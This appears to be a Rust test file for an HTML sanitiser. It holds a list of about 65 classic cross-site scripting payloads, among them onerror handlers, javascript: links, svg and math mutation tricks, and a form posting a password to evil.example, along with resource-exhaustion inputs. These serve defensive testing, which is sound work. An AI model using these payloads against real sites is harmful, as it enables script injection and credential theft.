//! Attacks on sanitisers: classics of our own, and the collection beside the repository when it is there.

use super::{Policy, clean_paste, sanitise};
use crate::dom;

/// What must never be in anything that comes out, looked at in the tree that a browser would build.
pub(crate) fn assert_harmless(html: &str, origin: &str) {
    let tree = dom::fragment(html).expect("what comes out can be read");
    for id in tree.below(tree.top) {
        let name = tree.name(id);
        if !tree.is_element(id) {
            assert!(tree.text(id).is_some(), "{origin}: a comment is left");
            continue;
        }
        let known = [
            "p",
            "h2",
            "h3",
            "h4",
            "ul",
            "ol",
            "li",
            "blockquote",
            "figure",
            "figcaption",
            "hr",
            "table",
            "caption",
            "thead",
            "tbody",
            "tfoot",
            "tr",
            "th",
            "td",
            "strong",
            "em",
            "u",
            "sub",
            "sup",
            "br",
            "a",
            "img",
        ];
        assert!(known.contains(&name), "{origin}: <{name}> is left in {html}");
        for (attribute, value) in tree.attrs(id) {
            let known = [
                "href", "rel", "src", "alt", "width", "height", "colspan", "rowspan", "scope", "start", "type", "class",
            ];
            assert!(known.contains(&&**attribute), "{origin}: {attribute}= is left in {html}");
            if matches!(&**attribute, "href" | "src") {
                let folded: String = value.chars().filter(|c| *c > ' ').collect::<String>().to_ascii_lowercase();
                let scheme = folded.split_once(':').map(|(s, _)| s.to_owned()).unwrap_or_default();
                let relative = scheme.is_empty() || scheme.contains(['/', '?', '#']);
                let good = relative || ["http", "https", "mailto", "tel"].contains(&scheme.as_str());
                assert!(good, "{origin}: {attribute}={value:?} is left");
            }
        }
    }
}

fn check(html: &str, origin: &str) {
    if let Ok(shown) = super::shown(html, &Policy::default()) {
        assert_harmless(&shown, origin);
    }
    for clean in [sanitise, clean_paste] {
        let Ok(first) = clean(html, &Policy::default()) else { continue };
        assert_harmless(&first.html, origin);
        let again = sanitise(&first.html, &Policy::default()).expect("clean HTML is taken");
        let differs = again.html.bytes().zip(first.html.bytes()).position(|(a, b)| a != b).unwrap_or_default();
        let from = first.html.floor_char_boundary(differs.saturating_sub(60));
        let around = |html: &str| html.get(from..).unwrap_or_default().chars().take(200).collect::<String>();
        assert!(
            again.html == first.html,
            "{origin}: cleaning twice differs:\n{}\n{}",
            around(&first.html),
            around(&again.html)
        );
        assert!(again.left.is_empty(), "{origin}: {:?} left in {}", again.left, first.html);
    }
}

/// Classics, each with text that must stay (empty: nothing need stay).
pub(crate) const CLASSICS: &[(&str, &str)] = &[
    ("<script>alert(1)</script>正文", "正文"),
    ("<SCRIPT SRC=//evil.example/x.js></SCRIPT>正文", "正文"),
    ("<scr<script>ipt>alert(1)</scr</script>ipt>", ""),
    ("<img src=x onerror=alert(1)>", ""),
    ("<img/src=`x`/onerror=alert(1)>", ""),
    ("<img src=\"javascript:alert(1)\">", ""),
    ("<a href=\"javascript:alert(1)\">点这里</a>", "点这里"),
    ("<a href=\"&#106;&#97;va&#x0A;script:alert(1)\">点这里</a>", "点这里"),
    ("<a href=\" \u{1}javascript:alert(1)\">点这里</a>", "点这里"),
    ("<a href=\"data:text/html;base64,PHNjcmlwdD4=\">点这里</a>", "点这里"),
    ("<a href=\"vbscript:msgbox(1)\">点这里</a>", "点这里"),
    ("<p style=\"background:url(javascript:alert(1))\">正文</p>", "正文"),
    ("<p style=\"width:expression(alert(1))\">正文</p>", "正文"),
    ("<div onclick=\"alert(1)\">正文</div>", "正文"),
    ("<div ONMOUSEOVER = alert(1)>正文</div>", "正文"),
    ("<svg onload=alert(1)>", ""),
    ("<svg><script>alert(1)</script></svg>后文", "后文"),
    ("<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>后文", "后文"),
    ("<svg><style><img src=x onerror=alert(1)></style></svg>", ""),
    ("<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", ""),
    ("<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">", ""),
    ("<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", ""),
    ("<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", ""),
    ("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", ""),
    ("<template><script>alert(1)</script></template>后文", "后文"),
    ("<template><template><img src=x onerror=alert(1)></template></template>", ""),
    ("<iframe src=\"javascript:alert(1)\"></iframe>后文", "后文"),
    ("<iframe srcdoc=\"<script>alert(1)</script>\">里面</iframe>后文", "后文"),
    ("<object data=\"data:text/html,<script>alert(1)</script>\"></object>后文", "后文"),
    ("<embed src=\"//evil.example/x.swf\">后文", "后文"),
    ("<base href=\"//evil.example/\"><a href=\"a\">文</a>", "文"),
    ("<link rel=stylesheet href=//evil.example/x.css>正文", "正文"),
    ("<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">正文", "正文"),
    ("<style>@import '//evil.example/x.css';</style>正文", "正文"),
    ("<form action=//evil.example><input name=password><button>登录</button>请填写</form>", "请填写"),
    ("<textarea></textarea><img src=x onerror=alert(1)>", ""),
    ("<title><img src=x onerror=alert(1)></title>正文", "正文"),
    ("<xmp><img src=x onerror=alert(1)></xmp>", ""),
    ("<plaintext><img src=x onerror=alert(1)>", ""),
    ("<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">", ""),
    ("<!--><img src=x onerror=alert(1)>-->", ""),
    ("<!--[if IE]><script>alert(1)</script><![endif]-->正文", "正文"),
    ("<![CDATA[<script>alert(1)</script>]]>", ""),
    ("<?xml version=\"1.0\"?><script>alert(1)</script>正文", "正文"),
    ("<p>未结束<b>粗<i>斜<a href=/x>链接", "未结束"),
    ("<p title=\"未结束 onclick=alert(1)>正文", ""),
    ("<table><tr><td><script>alert(1)</script>格</table>", "格"),
    ("<table background=\"javascript:alert(1)\"><tr><td>格<td>子</table>", "格"),
    ("<select><option><img src=x onerror=alert(1)></select>后文", "后文"),
    ("<a href=\"//evil.example\" target=_blank ping=//evil.example>文</a>", "文"),
    ("<b onfocus=alert(1) tabindex=1 autofocus>文</b>", "文"),
    ("<p id=\"location\" name=\"cookie\">文</p>", "文"),
    ("a\0b<scr\0ipt>alert(1)</scr\0ipt>", ""),
    ("<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>", ""),
    ("<marquee onstart=alert(1)>文</marquee>", "文"),
    ("<x onclick=alert(1)>文</x>", "文"),
    ("<details open ontoggle=alert(1)><summary>题</summary>文</details>", "文"),
    ("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "&lt;script&gt;"),
    ("<a href=/a><a href=/b>文</a></a>", "文"),
    ("<b><p>一<i><p>二</b>三</i>", "三"),
    ("<li>一<li>二", "二"),
    ("<h1><div>一</div><div>二</div></h1>", "一 二"),
    ("<figcaption>图</figcaption>", "图"),
    ("<strong><table><tr><td>一<td>二</table></strong>", "一"),
    ("<ul>文<ol><li>一</ol><div>二</div></ul>", "二"),
];

#[test]
fn classic_attacks_leave_the_text_and_nothing_else() {
    for (html, text) in CLASSICS {
        check(html, html);
        let cleaned = sanitise(html, &Policy::default()).expect("small enough");
        assert!(cleaned.html.contains(text), "{html} lost {text}: {}", cleaned.html);
    }
}

#[test]
fn what_no_browser_would_finish_is_read_in_bounded_time_or_refused() {
    let many = |piece: &str, count: usize| piece.repeat(count);
    let formats: String = (0..3_000).map(|i| format!("<p><b a={i}>x")).collect();
    let attributes: String = (0..150_000).map(|i| format!(" a{i}")).collect();
    let links: String = (0..20_000).map(|i| format!("<a href=/{i}><p>")).collect();
    let cases = [
        ("nested div", many("<div>", 300_000)),
        ("nested b", many("<b>", 300_000)),
        ("nested font", many("<font><div>", 150_000)),
        ("nested table", many("<table><tr><td>", 100_000)),
        ("nested list", many("<ul><li>", 150_000)),
        ("nested svg", many("<svg><g>", 150_000)),
        ("open formats", formats),
        ("many attributes", format!("<p{attributes}>")),
        ("open links", links),
        ("unclosed comment", format!("<!--{}", many("-", 1_000_000))),
        ("many entities", many("&amp", 300_000)),
        ("many brackets", many("<", 1_000_000)),
        ("select", many("<select><option>", 200_000)),
        ("bogus ends", many("<div></x>", 150_000)),
    ];
    for (name, html) in cases {
        match sanitise(&html, &Policy::default()) {
            Ok(cleaned) => assert_harmless_or_large(&cleaned.html, name),
            Err(refusal) => assert_eq!(refusal.name, "intake.tangled", "{name}"),
        }
    }
}

fn assert_harmless_or_large(html: &str, origin: &str) {
    if html.len() < 200_000 {
        assert_harmless(html, origin);
    }
}

#[test]
fn the_collection_of_attacks_leaves_no_script() {
    let Some(files) = crate::samples::files("foreign-files/rss/feedparser/wellformed-sanitize") else { return };
    let mut count = 0;
    for (name, bytes) in files {
        let text = String::from_utf8_lossy(&bytes);
        check(&text, &name);
        // The attack stands in the feed as escaped text: as the feed's reader would hand it to us.
        check(&unescape(&text), &name);
        check(&unescape(&unescape(&text)), &name);
        count += 1;
    }
    assert!(count >= 700, "only {count} files");
}

fn unescape(text: &str) -> String {
    text.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&#39;", "'").replace("&amp;", "&")
}
